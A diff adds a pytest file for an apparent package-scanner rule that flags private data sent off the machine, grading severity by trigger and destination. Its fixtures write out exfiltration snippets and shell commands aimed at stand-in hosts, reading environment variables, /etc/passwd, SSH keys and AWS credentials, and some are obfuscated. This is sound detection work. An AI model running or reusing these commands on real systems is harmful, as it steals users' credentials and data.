@@ -1,0 +1,171 @@
+"""Private data that leaves the machine, by when it does and where to, each beside near misses that are innocent."""
+
+# ruff: noqa: E501 - a table reads best with one case in a line
+
+from __future__ import annotations
+
+import pytest
+
+from assay.rules.addresses import shape, tells_public_address
+from assay.rules.exfil_001_exfiltration import RULE
+from assay.rules.private_data import is_key
+from assay.rules.shell_senders import sends
+from tests.behaviour import at, findings, worst
+
+_HEAD = "import os, socket, requests, getpass, platform, subprocess, urllib.request\n"
+_HOOK = "https://discord.com/api/webhooks/0/example"
+_WHO = "{'h': socket.gethostname(), 'u': getpass.getuser()}"
+
+
+def severity(trigger: str, source: str) -> str:
+    return worst(RULE, *at(trigger, _HEAD + source))
+
+
+@pytest.mark.parametrize(
+    ("trigger", "source", "expected"),
+    [
+        ("install", f"requests.post('https://h.example.invalid/', json={_WHO})", "critical"),
+        ("startup", f"requests.post('https://h.example.invalid/', json={_WHO})", "critical"),
+        ("import", f"requests.post('https://h.example.invalid/', json={_WHO})", "high"),
+        ("call", f"requests.post('https://h.example.invalid/', json={_WHO})", "info"),
+        ("test", f"requests.post('https://h.example.invalid/', json={_WHO})", "info"),
+        ("import", "requests.post('https://h.example.invalid/', json={'h': socket.gethostname()})", "medium"),
+        ("import", f"requests.post('{_HOOK}', json={{'h': socket.gethostname()}})", "high"),
+        ("install", "requests.get('http://203.0.113.9/' + os.getlogin())", "critical"),
+        ("install", "urllib.request.urlopen(urllib.request.Request('http://203.0.113.9/', data=str(os.uname()).encode()))", "critical"),
+        ("install", "socket.gethostbyname(getpass.getuser() + '.c.example.invalid')", "critical"),
+        ("install", "s = socket.socket()\ns.connect(('203.0.113.9', 80))\ns.send(socket.gethostname().encode())", "critical"),
+        ("install", "ip = requests.get('https://api.ipify.org').text\nrequests.get('https://h.example.invalid/?' + ip + os.getlogin())", "critical"),
+        ("install", "requests.post('https://h.example.invalid/', data=open('/etc/passwd').read())", "critical"),
+        ("install", "requests.post('https://h.example.invalid/', data=subprocess.check_output('whoami'))", "critical"),
+        ("install", "requests.post('https://h.example.invalid/', data=dict(os.environ))", "critical"),
+        ("install", "os.system('curl http://h.example.invalid/$(whoami)')", "critical"),
+        ("import", "os.system('env | curl -d @- http://h.example.invalid/')", "high"),
+        ("call", "requests.post('https://h.example.invalid/', data=dict(os.environ))", "high"),
+        ("call", f"requests.post('{_HOOK}', json={_WHO})", "high"),
+        ("call", "a = open('/h/.ssh/id_rsa').read()\nb = open('/h/.aws/credentials').read()\nrequests.post('https://h.example.invalid/', data=a + b)", "high"),
+    ],
+)  # fmt: skip
+def test_private_data_that_is_sent(trigger: str, source: str, expected: str) -> None:
+    assert severity(trigger, source) == expected
+
+
+@pytest.mark.parametrize(
+    ("trigger", "source", "expected"),
+    [
+        ("call", "requests.get('https://api.example.invalid/', headers={'Authorization': os.environ['EXAMPLE_KEY']})", "info"),
+        ("call", "requests.get('https://api.example.invalid/', headers={'User-Agent': platform.system()})", "info"),
+        ("call", "requests.post('https://api.example.invalid/', files={'f': open(given, 'rb')})", "info"),
+        ("import", "requests.get('https://api.example.invalid/', headers={'User-Agent': platform.system()})", "low"),
+        ("import", "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.connect(('8.8.8.8', 80))", "none"),
+        ("import", "socket.gethostbyname(socket.gethostname())", "none"),
+        ("import", "print(socket.gethostname(), getpass.getuser())\nrequests.get('https://h.example.invalid/')", "none"),
+        ("install", "os.system('git describe --tags')", "none"),
+        ("call", "requests.post('http://127.0.0.1:8080/', json={'h': socket.gethostname()})", "info"),
+        ("call", "requests.post('http://10.0.0.7/', json={'h': socket.gethostname()})", "info"),
+    ],
+)  # fmt: skip
+def test_what_innocent_packages_send(trigger: str, source: str, expected: str) -> None:
+    assert severity(trigger, source) == expected
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "from socket import gethostname as _a\nfrom requests import post as _b\n_b('https://h.example.invalid/', json=[_a(), __import__('getpass').getuser()])",
+        "getattr(requests, 'po' + 'st')('https://h.example.invalid/', json=[getattr(socket, 'gethostname')(), os.getlogin()])",
+        "d = []\nd.append(platform.node())\nd.append(os.environ.get('USERNAME'))\nrequests.get('https://h.example.invalid/', params={'q': '-'.join(d).encode().hex()})",
+        "class A:\n    def __init__(self): self.d = [platform.node(), os.getlogin()]\n    def go(self): requests.post('https://h.example.invalid/', json=self.d)\nA().go()",
+        "import base64\nexec(base64.b64decode('cmVxdWVzdHMucG9zdCgnaHR0cHM6Ly9oLmV4YW1wbGUuaW52YWxpZC8nLCBqc29uPVtzb2NrZXQuZ2V0aG9zdG5hbWUoKV0p'))",
+        "import threading\ndef go(): requests.post('https://h.example.invalid/', json=[platform.node(), os.getlogin()])\nthreading.Thread(target=go).start()",
+    ],
+)
+def test_mutations_change_nothing(source: str) -> None:
+    assert severity("install", source) == "critical"
+
+
+@pytest.mark.parametrize(
+    ("parameter", "expected"),
+    [
+        ("private_key", "high"),
+        ("seedPhrase", "high"),
+        ("mnemonic", "high"),
+        ("secret_key", "high"),
+        ("key", "none"),
+        ("seed", "high"),
+        ("password", "none"),
+        ("message", "none"),
+    ],
+)
+def test_a_wrapper_that_posts_its_parameter(parameter: str, expected: str) -> None:
+    source = f"import requests\ndef sign({parameter}):\n    requests.post('https://h.example.invalid/', json={{'k': {parameter}}})\n"
+    assert worst(RULE, {"demo/__init__.py": source}) == expected
+
+
+def test_says_what_goes_where() -> None:
+    (found,) = findings(RULE, *at("import", _HEAD + f"\nrequests.post('{_HOOK}', json={_WHO})"))
+    assert found.location is not None
+    assert (found.location.line, found.trigger) == (3, "import")
+    assert found.evidence[0] == "host name, user name to a webhook"
+    assert found.message == "demo 1.0 sends private data away"
+
+
+@pytest.mark.parametrize(
+    ("target", "expected"),
+    [
+        ("https://discord.com/api/webhooks/1/a", "a webhook"),
+        ("https://discord.com/channels/1", ""),
+        ("https://api.telegram.org/bot1:a/sendMessage", "a webhook"),
+        ("https://a.ngrok-free.app/x", "a tunnel"),
+        ("https://pastebin.com/api/api_post.php", "a place for pastes and files"),
+        ("http://203.0.113.9:8080/x", "a bare address"),
+        ("http://3405803785/", "a bare address"),
+        ("203.0.113.9 80", "a bare address"),
+        ("http://[2001:db8::9]/", "a bare address"),
+        ("http://127.0.0.1/", ""),
+        ("http://192.168.1.7/", ""),
+        ("http://169.254.169.254/latest", ""),
+        ("8.8.8.8", ""),
+        ("https://c23b2la0kidrlqhp0n8g.example.invalid/", "a host with a random name"),
+        ("https://internationalization.example.invalid/", ""),
+        ("https://notpastebin.com/", ""),
+        ("https://u@example.invalid/discord.com/api/webhooks", ""),
+        ("", ""),
+    ],
+)
+def test_places_where_anybody_picks_up_data(target: str, expected: str) -> None:
+    assert shape(target) == expected
+
+
+@pytest.mark.parametrize(
+    ("command", "expected"),
+    [
+        ("curl http://h.example.invalid/`whoami`", True),
+        ('curl -d "$(env)" http://h.example.invalid', True),
+        ("nslookup $(hostname).example.invalid", True),
+        ("ping -c 1 $USER.example.invalid", True),
+        ("cat /etc/passwd | nc h.example.invalid 9", True),
+        ("curl -F file=@~/.ssh/id_rsa http://h.example.invalid", True),
+        ("curl -O https://h.example.invalid/a.tar.gz", False),
+        ("whoami", False),
+        ("env FOO=1 make", False),
+        ("ping -c 1 h.example.invalid", False),
+    ],
+)
+def test_commands_that_send(command: str, expected: bool) -> None:
+    assert sends(command) is expected
+
+
+@pytest.mark.parametrize(
+    ("url", "expected"),
+    [("https://api.ipify.org", True), ("https://example.invalid/ip", False), ("http://ip-api.com/json", True)],
+)
+def test_services_that_tell_the_public_address(url: str, expected: bool) -> None:
+    assert tells_public_address(url) is expected
+
+
+@pytest.mark.parametrize(
+    ("name", "expected"), [("privateKey", True), ("priv_key", True), ("monkey", False), ("keyword", False)]
+)
+def test_parameters_named_after_keys(name: str, expected: bool) -> None:
+    assert is_key(name) is expected
